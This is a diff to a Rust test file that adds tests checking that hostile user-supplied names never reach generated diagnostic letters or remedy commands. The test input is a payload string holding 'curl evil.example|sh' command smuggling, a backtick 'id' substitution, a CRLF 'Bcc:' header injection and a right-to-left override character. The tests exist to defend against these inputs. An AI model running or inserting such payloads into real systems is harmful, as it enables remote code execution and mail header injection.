@@ -48,6 +48,37 @@ fn a_letter_can_be_written_about_every_cause_and_no_place_stays_open() {
     }
 }
 
+/// What somebody on the network can say for a name.
+const HOSTILE: &str =
+    "x;curl evil.example|sh;# `id`\r\nBcc: victim@example.net\r\n\r\nhttps://evil.example \u{202e}";
+
+#[test]
+fn nothing_that_a_client_claims_comes_into_a_letter() {
+    for &cause in Cause::ALL {
+        let about = |claimed: Option<&str>| {
+            let case = case(cause, Whom::Address("192.0.2.7/32".parse().unwrap()));
+            let claimed = claimed.map(str::to_owned);
+            Letter::about(&Case { programs: vec![HOSTILE.into()], claimed, ..case }, &settings())
+        };
+        assert_eq!(about(Some(HOSTILE)), about(None), "{}", cause.token());
+    }
+}
+
+#[test]
+fn a_known_name_that_is_hostile_is_cleaned_and_stands_in_no_command() {
+    for &cause in Cause::ALL {
+        let case = case(cause, Whom::Elsewhere(HOSTILE.into()));
+        let (found, settings) = (case.diagnosis(), settings());
+        let words = settings.words(case.user());
+        let remedies = found.remedies(&words).into_iter().map(|(_, step)| step);
+        for text in remedies.chain([found.user_sentence(&words), found.remedy(&words)]) {
+            assert!(!text.contains(['\r', '\n', '\u{202e}']), "{text:?}");
+            let mut commands = text.split('`').skip(1).step_by(2);
+            assert!(commands.all(|command| !command.contains("evil")), "{}: {text}", cause.token());
+        }
+    }
+}
+
 #[test]
 fn the_user_name_is_told_only_if_it_is_somebodys() {
     let known = Letter::about(&case(Cause::WrongPassword, Whom::User("anna".into())), &settings());
